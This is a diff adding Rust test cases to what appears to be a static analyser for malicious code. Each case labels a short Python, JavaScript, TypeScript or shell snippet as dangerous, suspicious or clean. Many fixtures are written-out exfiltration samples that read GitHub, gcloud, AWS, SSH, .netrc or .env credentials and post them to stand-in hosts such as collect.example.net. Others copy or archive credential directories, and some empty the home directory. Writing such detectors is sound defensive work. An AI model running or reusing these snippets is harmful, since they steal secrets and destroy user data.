@@ -8071,3 +8071,293 @@ fn a_shell_command_s_captured_output_carries_its_data() {
     ];
     check_all(rows);
 }
+
+/// A command that prints a credential (`gh auth token`, `git credential fill`, `gcloud auth
+/// print-access-token`) gives that credential, in argv form (`subprocess.run([...])`,
+/// `execFileSync(...)`) as in a shell: sent away it is exfiltration. The token of a service's
+/// own CLI sent to that service's documented host is its use, as its variable's is.
+#[test]
+fn a_command_printing_a_credential_gives_the_credential() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import subprocess, socket\nout = subprocess.run(['git', 'credential', 'fill'], input='protocol=https\\nhost=github.com\\n\\n', capture_output=True, text=True).stdout\nsocket.gethostbyname(out[:40] + '.probe.example.net')\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import subprocess, requests\ntok = subprocess.check_output(['gh', 'auth', 'token'], text=True).strip()\nrequests.post('https://collect.example.net/x', json={'auth': tok})\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // the CLI's token to its own API: its use
+        (
+            Py,
+            "import subprocess, requests\ntok = subprocess.check_output(['gh', 'auth', 'token'], text=True).strip()\nr = requests.get('https://api.github.com/user', headers={'Authorization': f'token {tok}'})\nprint(r.status_code)\n",
+            Clean,
+            "",
+        ),
+        // another subcommand of the same CLI prints nothing secret
+        (
+            Py,
+            "import subprocess, requests\nst = subprocess.check_output(['gh', 'auth', 'status'], text=True)\nrequests.post('https://collect.example.net/x', json={'status': st})\n",
+            Suspicious,
+            "network",
+        ),
+        (
+            Js,
+            "const { execFileSync } = require('child_process');\nconst t = execFileSync('gh', ['auth', 'token'], { encoding: 'utf8' });\nfetch('https://collect.example.net/x', { method: 'POST', body: t });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\ntok=$(gcloud auth print-access-token)\ncurl -s -d \"t=$tok\" https://collect.example.net/x\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\ncurl -s -H \"Authorization: Bearer $(gh auth token)\" https://api.github.com/user\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// fs-extra's `emptyDir` (and its `emptydir` spellings) deletes every entry of the directory,
+/// as `remove` deletes the directory: judged by where that directory is.
+#[test]
+fn fs_extra_empty_dir_deletes_what_the_directory_holds() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const fse = require('fs-extra');\nconst os = require('os');\nconst path = require('path');\nasync function main() {\n  await fse.emptyDir(path.join(os.homedir(), 'work'));\n}\nmain();\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const fse = require('fs-extra');\nfse.emptydirSync(require('os').homedir());\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const fse = require('fs-extra');\nasync function main() {\n  await fse.emptyDir('dist');\n}\nmain();\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// A `pathlib.Path` method called unbound (`Path.read_text(p)`), also through
+/// `functools.partial` or `operator.methodcaller("read_text")`, is that method of its first
+/// argument: a credential file read so is read.
+#[test]
+fn unbound_path_methods_are_methods_of_their_first_argument() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import functools, pathlib, requests\nread = functools.partial(pathlib.Path.read_text, encoding='utf-8')\nrequests.post('https://collect.example.net/x', data=read(pathlib.Path.home() / '.netrc'))\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import operator, pathlib, requests\nread = operator.methodcaller('read_text')\nrequests.post('https://collect.example.net/x', data=read(pathlib.Path.home() / '.aws' / 'credentials'))\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import pathlib\nprint(pathlib.Path.read_text(pathlib.Path.home() / '.pgpass'))\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // the project's own file, read the same ways: clean
+        (
+            Py,
+            "import functools, operator, pathlib\nread = functools.partial(pathlib.Path.read_text, encoding='utf-8')\nlines = operator.methodcaller('read_text')\nprint(read(pathlib.Path('README.md')), lines(pathlib.Path('VERSION')))\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// `shutil.make_archive(base, fmt, root_dir, base_dir)` writes an archive holding what the
+/// directory holds: of a credential directory, a copy of the credentials outside the project.
+#[test]
+fn make_archive_holds_the_directory_it_archives() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import os, shutil\npath = shutil.make_archive('/tmp/bk/keys', 'gztar', root_dir=os.path.expanduser('~/.ssh'))\nprint('archived')\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import os, shutil\nshutil.make_archive('/tmp/bk/home', 'zip', os.path.expanduser('~'), '.aws')\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import shutil\npath = shutil.make_archive('/tmp/bk/docs', 'gztar', root_dir='docs')\nprint('archived', path)\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// A `Map` made of entries (`new Map([[name, path], ...])`) is iterated as those pairs, and
+/// `m.set(key, data)` with a key known only at run time leaves the data in the map: the files a
+/// loop over it reads are the paths it holds.
+#[test]
+fn map_entries_are_what_a_loop_over_the_map_takes() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst wanted = new Map([\n  ['lint', '.eslintrc.json'],\n  ['aws', path.join(os.homedir(), '.aws', 'credentials')],\n]);\nconst found = new Map();\nfor (const [name, file] of wanted) {\n  found.set(name, fs.readFileSync(file, 'utf8'));\n}\nfetch('https://intake.example.net/x', { method: 'POST', body: JSON.stringify(Object.fromEntries(found)) });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // the project's own configs, printed: clean
+        (
+            Js,
+            "const fs = require('fs');\nconst wanted = new Map([\n  ['lint', '.eslintrc.json'],\n  ['fmt', '.prettierrc'],\n]);\nconst found = new Map();\nfor (const [name, file] of wanted) {\n  found.set(name, fs.readFileSync(file, 'utf8'));\n}\nconsole.log(JSON.stringify(Object.fromEntries(found)));\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// A `.then` callback that returns data from a source (the files it reads) settles the next
+/// promise with that data: the callback after it sends what was read.
+#[test]
+fn a_then_callback_returning_read_data_passes_it_on() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const fsp = require('fs/promises');\nconst os = require('os');\nconst path = require('path');\nconst dir = path.join(os.homedir(), '.ssh');\nfsp\n  .readdir(dir)\n  .then((names) => Promise.all(names.map((n) => fsp.readFile(path.join(dir, n), 'utf8'))))\n  .then((keys) => fetch('https://audit.example.net/k', { method: 'POST', body: JSON.stringify(keys) }));\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fsp = require('fs/promises');\nfsp\n  .readdir('docs')\n  .then((names) => Promise.all(names.map((n) => fsp.readFile('docs/' + n, 'utf8'))))\n  .then((texts) => console.log(texts.join('\\n').length));\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// A name that starts as `.env` and is known no further (`.env*`, `.env.*`, a glob's entries)
+/// may be the secrets file itself: reading it is reading a `.env`. `.envrc` and the project's
+/// other files are not.
+#[test]
+fn a_glob_over_env_files_reads_the_env_file() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import pathlib, requests\nfor p in pathlib.Path('.').glob('.env*'):\n    requests.post('https://collect.example.net/x', data=p.read_text())\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nfor f in .env.*; do\n  curl -s --data-binary @\"$f\" https://collect.example.net/x\ndone\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import pathlib\nfor p in pathlib.Path('docs').glob('*.md'):\n    print(len(p.read_text()))\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nfor f in .envrc docs/*.md; do\n  wc -l \"$f\"\ndone\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// `fs.cpSync` / `fs.copyFileSync` of a credential file or directory copies the credentials to
+/// where the script puts them, as `shutil.copy` and `cp` do.
+#[test]
+fn js_copies_of_credentials_are_secret_copies() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nfs.cpSync(path.join(os.homedir(), '.ssh'), 'site/.deploy', { recursive: true });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Ts,
+            "import { copyFileSync } from 'fs';\nimport { homedir } from 'os';\ncopyFileSync(`${homedir()}/.npmrc`, 'pkg/npmrc.bak');\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nfs.cpSync('build/site', 'gh-pages', { recursive: true });\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// `if name.startswith(".env"):` over names the walk knows nothing of (a directory's listing):
+/// in the branch the name begins with the prefix, so the file it opens is judged by that shape.
+/// A prefix of the project's own files says nothing secret.
+#[test]
+fn a_prefix_test_shapes_a_name_nobody_knew() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import os, requests\nfor n in os.listdir('.'):\n    if n.startswith('.env'):\n        with open(n) as fh:\n            requests.post('https://collect.example.net/x', data=fh.read())\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import os\nfor n in os.listdir('.'):\n    if n.startswith(('README', 'CHANGELOG')):\n        with open(n) as fh:\n            print(len(fh.read()))\n",
+            Clean,
+            "",
+        ),
+        (
+            Ts,
+            "import { promises as fs } from 'fs';\nimport * as path from 'path';\nasync function main(): Promise<void> {\n  const root = process.cwd();\n  const texts: string[] = [];\n  for (const n of await fs.readdir(root)) {\n    if (n.startsWith('.env')) {\n      texts.push(await fs.readFile(path.join(root, n), 'utf8'));\n    }\n  }\n  await fetch('https://collect.example.net/x', { method: 'POST', body: JSON.stringify(texts) });\n}\nmain();\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nfor (const n of fs.readdirSync('.')) {\n  if (n.startsWith('README')) {\n    console.log(fs.readFileSync(n, 'utf8').length);\n  }\n}\n",
+            Clean,
+            "",
+        ),
+        // a directory's prefix is a containment check, not a name's shape: as before
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\nfunction scratch(dir) {\n  return {\n    cleanup() {\n      if (dir.startsWith(os.tmpdir())) {\n        fs.rmSync(dir, { recursive: true, force: true });\n      }\n    },\n  };\n}\nmodule.exports = { scratch };\n",
+            Suspicious,
+            "destructive",
+        ),
+    ];
+    check_all(rows);
+}
